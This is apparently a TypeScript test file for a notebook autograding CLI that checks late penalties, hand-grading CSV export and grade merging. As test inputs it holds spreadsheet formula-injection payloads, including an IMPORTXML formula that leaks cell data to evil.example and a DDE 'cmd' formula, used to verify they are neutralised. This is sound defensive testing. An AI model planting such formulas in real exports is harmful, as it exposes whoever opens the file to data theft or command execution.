// The gradebook from the instructor's side, with real kernels: `tlab autograde --duedate
// --late-penalty` on nbgrader's layout with students whose folder names, timestamps and answers
// are spreadsheet formulas, the free-text answers exported for a person, and `tlab grades merge`.
import { gradingSandbox } from "../helpers/sandbox";
import { test } from "node:test";
import * as assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { parse } from "csv-parse/sync";
import { quietly } from "../helpers/console";
import { scratchDir } from "../helpers/paths";
import { main as autograde } from "../../cli/autograde";
import { main as grades } from "../../cli/grades";
import { MANUAL_COLUMNS } from "../../src/quiz/grading/manual-grading";
import { Notebook, NotebookCell, writeNotebook } from "../../src/quiz/notebook";
import { releaseNotebook } from "../../src/quiz/release";
import { byGradeId, code, md } from "./fixtures";

const EXPLANATION = "ln-2-is-the-loss-of-a-coin-flip";
const INJECTION = `=IMPORTXML("http://evil.example/?"&A1,"//a")`;
const MULTILINE = `Line one, with "quotes"\n-second line starts with a minus`;

const essayCell: NotebookCell = {
  cell_type: "markdown", id: "why-cell", source: "The model reads ids, never text: the tokenizer makes them.",
  metadata: { nbgrader: { schema_version: 3, grade: true, solution: true, locked: false, points: 2, grade_id: "why" } as never },
};
const source: Notebook = {
  nbformat: 4, nbformat_minor: 5, metadata: { tlab: { assignment: "essay" } },
  cells: [
    code(`quiz.numeric("loss", { answer: 0.6931, tolerance: 0.0001, explanation: "${EXPLANATION}" })`),
    code(`quiz.answer("loss", Math.log(2))`),
    code(`quiz.check("loss")`, { grade: true, solution: false, locked: true, points: 3, grade_id: "loss-check" }),
    md("Why does the tokenizer run before the model?"),
    essayCell,
  ],
};

/** Parsed CSV rows keyed by header, as a spreadsheet would read them (quotes kept). */
function readRows(file: string): Record<string, string>[] {
  return parse(fs.readFileSync(file, "utf8"), { columns: true }) as Record<string, string>[];
}

/** A CSV as another program writes it: every field quoted. */
function writeQuotedCsv(file: string, rows: string[][]): void {
  fs.writeFileSync(file, rows.map((r) => r.map((f) => `"${f.replace(/"/g, '""')}"`).join(",")).join("\r\n") + "\r\n");
}

const sandbox = gradingSandbox();

test("tlab autograde --duedate --late-penalty and tlab grades merge: neutralised cells, penalties from each timestamp, hand-graded points merged", { timeout: 300_000, skip: sandbox.skip }, async () => {
  const dir = scratchDir("quiz-gradebook-cli");
  const sourceFile = path.join(dir, "source", "essay.ipynb");
  fs.mkdirSync(path.dirname(sourceFile), { recursive: true });
  writeNotebook(sourceFile, source);
  const student = releaseNotebook(source, { mode: "graded" });
  assert.equal(student.cells.find(byGradeId("why"))!.source, "YOUR ANSWER HERE");

  const submit = (id: string, loss: string, essay: string | undefined, timestamp: string | Date) => {
    const nb = JSON.parse(JSON.stringify(student)) as Notebook;
    nb.cells.find((c) => String(c.source).startsWith(`quiz.answer("loss"`))!.source = `quiz.answer("loss", ${loss})`;
    if (essay !== undefined) nb.cells.find(byGradeId("why"))!.source = essay;
    const file = path.join(dir, "submitted", id, "essay", "essay.ipynb");
    fs.mkdirSync(path.dirname(file), { recursive: true });
    writeNotebook(file, nb);
    if (timestamp instanceof Date) fs.utimesSync(file, timestamp, timestamp);
    else fs.writeFileSync(path.join(path.dirname(file), "timestamp.txt"), `${timestamp}\n`);
  };
  submit("ontime", "Math.log(2)", "The model reads ids; the tokenizer makes them.", "2026-11-30 09:00:00.000000 UTC");
  // 2 h 30 min 0.5 s late: 3 started hours at 0.5 points.
  submit("=1+2", "0.6931", INJECTION, "2026-12-01 12:30:00.500000 UTC");
  // No timestamp.txt: the file's time, 24 h late, costs 12 points but never more than the 3 earned.
  submit("@SUM(A1)", "Math.log(2)", MULTILINE, new Date(Date.UTC(2026, 11, 2, 10)));
  // A timestamp that is a formula and no time at all: no penalty can be computed, so no score.
  submit("-2+3", "0.7", undefined, "=cmd|' /C calc'!A0");

  const out = path.join(dir, "out");
  const run = await quietly(() => autograde([path.join(dir, "submitted"), "--source", sourceFile, "--out", out,
    "--duedate", "2026-12-01T10:00:00Z", "--late-penalty", "per-hour:0.5", "--workers", "2", "--timeout", "30"]));
  assert.equal(run.code, 1, `an unreadable timestamp makes autograde fail:\n${run.out}`);
  assert.match(run.out, /-2\+3: The submission timestamp "=cmd\|' \/C calc'!A0" is not a date and time the grader can read/);
  assert.match(run.out, new RegExp(`Answers to grade by hand: ${path.join(out, "manual", "manual.csv").replace(/[.+]/g, "\\$&")}`));

  const csvFile = path.join(out, "grades.csv");
  const csvText = fs.readFileSync(csvFile, "utf8");
  assert.equal(csvText.split("\n")[0],
    "assignment,duedate,timestamp,student_id,last_name,first_name,email,raw_score,late_submission_penalty,score,max_score,loss,why,error");
  const rows = readRows(csvFile);
  const pick = (r: Record<string, string>) => [r.student_id, r.timestamp, r.raw_score, r.late_submission_penalty, r.score, r.max_score, r.loss, r.why];
  assert.deepEqual(rows.map(pick), [
    ["'-2+3", "'=cmd|' /C calc'!A0", "0", "", "", "5", "0", ""],
    ["'=1+2", "2026-12-01 12:30:00.500000 UTC", "3", "1.5", "1.5", "5", "3", ""],
    ["'@SUM(A1)", "2026-12-02T10:00:00.000Z", "3", "3", "0", "5", "3", ""],
    ["ontime", "2026-11-30 09:00:00.000000 UTC", "3", "0", "3", "5", "3", ""],
  ]);
  for (const r of rows) assert.equal(r.duedate, "2026-12-01T10:00:00.000Z");
  assert.match(rows[0].error, /^The submission timestamp .* No late penalty or score was computed; fix timestamp\.txt and grade again\.$/);
  assert.deepEqual(rows.slice(1).map((r) => r.error), ["", "", ""]);

  // The due date has passed: feedback pages carry the explanation, and say what lateness cost.
  const feedback = (file: string) => fs.readFileSync(path.join(out, "feedback", file), "utf8");
  assert.ok(feedback("ontime.html").includes(`Explanation: ${EXPLANATION}`));
  assert.match(feedback("ontime.html"), /Score: 3 \/ 5 \(2 points are graded by hand and not counted yet\)/);
  assert.match(feedback("_1_2.html"), /Submitted 2 h 31 min after the due date \(late penalty per-hour:0\.5: −1\.5 points\)/);
  assert.match(feedback("_1_2.html"), /Score: 1\.5 \/ 5/);
  assert.match(feedback("-2_3.html"), /Score: not computed \/ 5/);

  // The answers to grade by hand, one row per student, each text cell inert in a spreadsheet.
  const manualFile = path.join(out, "manual", "manual.csv");
  const manual = parse(fs.readFileSync(manualFile, "utf8")) as string[][];
  assert.deepEqual(manual, [
    ["student_id", "question", "points_possible", "answer", "points"],
    ["'-2+3", "why", "2", "YOUR ANSWER HERE", ""],
    ["'=1+2", "why", "2", `'${INJECTION}`, ""],
    ["'@SUM(A1)", "why", "2", MULTILINE, ""],
    ["ontime", "why", "2", "The model reads ids; the tokenizer makes them.", ""],
  ]);

  // A filled-in sheet with mistakes: nothing is merged, and every mistake is named by its line.
  const sheet = path.join(dir, "graded.csv");
  const why = (studentId: string, points: string) => [studentId, "why", "2", "…", points];
  writeQuotedCsv(sheet, [
    manual[0], why("ontime", "2"), why("'=1+2", "5"), why("'@SUM(A1)", "two"), why("mallory", "1"),
    ["ontime", "loss", "3", "…", "1"], ["ontime", "nope", "3", "…", "1"], why("ontime", "1"), why("'-2+3", "-1"),
  ]);
  const rejected = await quietly(() => grades(["merge", sheet, "--out", out]));
  assert.equal(rejected.code, 1);
  assert.equal(fs.readFileSync(csvFile, "utf8"), csvText, "grades.csv is untouched");
  for (const line of [
    /graded\.csv line 3: points "5" for =1\+2 on why must be a number from 0 to 2\./,
    /graded\.csv line 4: points "two" for @SUM\(A1\) on why must be a number from 0 to 2\./,
    /graded\.csv line 5: no student "mallory" in grades\.csv\./,
    /graded\.csv line 6: "loss" is autograded; only manually graded questions \(why\) take points here\./,
    /graded\.csv line 7: no manually graded question "nope"; they are: why\./,
    /graded\.csv line 8: ontime on why is given points twice\./,
    /graded\.csv line 9: points "-1" for -2\+3 on why must be a number from 0 to 2\./,
  ]) assert.match(rejected.out, line);
  assert.match(rejected.out, /^GradebookError: Nothing was merged; fix /);

  // The same sheet done right; a spreadsheet saved one student id without its quote.
  writeQuotedCsv(sheet, [manual[0], why("ontime", "2"), why("=1+2", " 1.5 "), why("'@SUM(A1)", ""), why("'-2+3", "0")]);
  const merged = await quietly(() => grades(["merge", sheet, "--out", out]));
  assert.equal(merged.code, 0, merged.out);
  assert.match(merged.out, /Merged 3 hand-given scores into .*grades\.csv; 1 answers still have no points/);
  const after = readRows(csvFile);
  assert.deepEqual(after.map(pick), [
    ["'-2+3", "'=cmd|' /C calc'!A0", "0", "", "", "5", "0", "0"],
    // The penalty follows the new raw score: 4.5 - 1.5.
    ["'=1+2", "2026-12-01 12:30:00.500000 UTC", "4.5", "1.5", "3", "5", "3", "1.5"],
    ["'@SUM(A1)", "2026-12-02T10:00:00.000Z", "3", "3", "0", "5", "3", ""],
    ["ontime", "2026-11-30 09:00:00.000000 UTC", "5", "0", "5", "5", "3", "2"],
  ]);
  assert.equal(after[0].error, rows[0].error);

  // Merging again replaces the points given before.
  writeQuotedCsv(sheet, [manual[0], why("ontime", "0.5")]);
  assert.equal((await quietly(() => grades(["merge", sheet, "--out", out]))).code, 0);
  assert.deepEqual(pick(readRows(csvFile)[3]), ["ontime", "2026-11-30 09:00:00.000000 UTC", "3.5", "0", "3.5", "5", "3", "0.5"]);
  assert.deepEqual(fs.readdirSync(out).filter((f) => f.endsWith(".tmp")), [], "no temporary file is left behind");
  assert.equal((await quietly(() => grades(["merge", sheet, "--out", path.join(dir, "nowhere")]))).code, 1);

  // Grading again keeps points filled into manual.csv itself, but only for answers that did not change.
  const filled = (row: string[], points: string) => [...row.slice(0, 4), points];
  writeQuotedCsv(manualFile, [manual[0], filled(manual[4], "2"), filled(manual[2], "1.5"), why("'@SUM(A1)", "1")]);
  submit("=1+2", "0.6931", "A new answer after the first grading.", "2026-12-01 12:30:00.500000 UTC");
  const again = await quietly(() => autograde([path.join(dir, "submitted"), "--source", sourceFile, "--out", out,
    "--duedate", "2026-12-01T10:00:00Z", "--late-penalty", "per-hour:0.5", "--workers", "2", "--timeout", "30"]));
  assert.equal(again.code, 1, again.out);
  assert.match(again.out, /\(points kept for 1 unchanged answers graded earlier\)/);
  assert.deepEqual((parse(fs.readFileSync(manualFile, "utf8")) as string[][]).map((r) => [r[0], r[4]]),
    [["student_id", "points"], ["'-2+3", ""], ["'=1+2", ""], ["'@SUM(A1)", ""], ["ontime", "2"]]);
  assert.deepEqual(readRows(csvFile).map(pick).map((r) => [r[0], r[2], r[4], r[7]]),
    [["'-2+3", "0", "", ""], ["'=1+2", "3", "1.5", ""], ["'@SUM(A1)", "3", "0", ""], ["ontime", "5", "5", "2"]]);
});

test("tlab autograde before the due date: no explanation in any feedback page, and --release-explanations is refused", { timeout: 300_000, skip: sandbox.skip }, async () => {
  const dir = scratchDir("quiz-gradebook-cli-early");
  const sourceFile = path.join(dir, "essay.ipynb");
  writeNotebook(sourceFile, source);
  const nb = JSON.parse(JSON.stringify(releaseNotebook(source, { mode: "graded" }))) as Notebook;
  nb.cells.find((c) => String(c.source).startsWith(`quiz.answer("loss"`))!.source = `quiz.answer("loss", Math.log(2))`;
  const submission = path.join(dir, "ana.ipynb");
  writeNotebook(submission, nb);
  const out = path.join(dir, "out");
  const future = "2999-01-01T00:00:00Z";

  const refused = await quietly(() => autograde([submission, "--source", sourceFile, "--out", out, "--duedate", future, "--release-explanations"]));
  assert.equal(refused.code, 2);
  assert.match(refused.out, /GradebookError: --release-explanations: the due date 2999-01-01T00:00:00\.000Z has not passed/);
  assert.equal((await quietly(() => autograde([submission, "--source", sourceFile, "--out", out, "--late-penalty", "zero"]))).code, 2);
  assert.ok(!fs.existsSync(out), "nothing is graded on a usage error");

  const early = await quietly(() => autograde([submission, "--source", sourceFile, "--out", out, "--duedate", future, "--late-penalty", "zero"]));
  assert.equal(early.code, 0, early.out);
  const html = fs.readFileSync(path.join(out, "feedback", "ana.html"), "utf8");
  assert.match(html, /Score: 3 \/ 5/);
  assert.ok(!html.includes(EXPLANATION), "an explanation was released before the due date");
  assert.ok(!html.includes("Explanation"));
  assert.deepEqual(readRows(path.join(out, "grades.csv")).map((r) => [r.raw_score, r.late_submission_penalty, r.score]), [["3", "0", "3"]]);

  // Without a due date, the instructor may release them. A hand-grading sheet that cannot be read
  // is set aside, not overwritten.
  fs.writeFileSync(path.join(out, "manual", "manual.csv"), `student_id,question,answer,points\nana,why,"unclosed,2\n`);
  const released = await quietly(() => autograde([submission, "--source", sourceFile, "--out", out, "--release-explanations"]));
  assert.equal(released.code, 1, released.out);
  assert.ok(fs.readFileSync(path.join(out, "feedback", "ana.html"), "utf8").includes(`Explanation: ${EXPLANATION}`));
  assert.match(released.out, /manual\.csv is not a readable CSV file: .* It was moved to .*manual-unreadable\.csv; a fresh .*manual\.csv was written\./);
  assert.equal(fs.readFileSync(path.join(out, "manual", "manual-unreadable.csv"), "utf8"), `student_id,question,answer,points\nana,why,"unclosed,2\n`);
  assert.deepEqual(parse(fs.readFileSync(path.join(out, "manual", "manual.csv"), "utf8")), [[...MANUAL_COLUMNS], ["ana", "why", "2", "YOUR ANSWER HERE", ""]]);
});
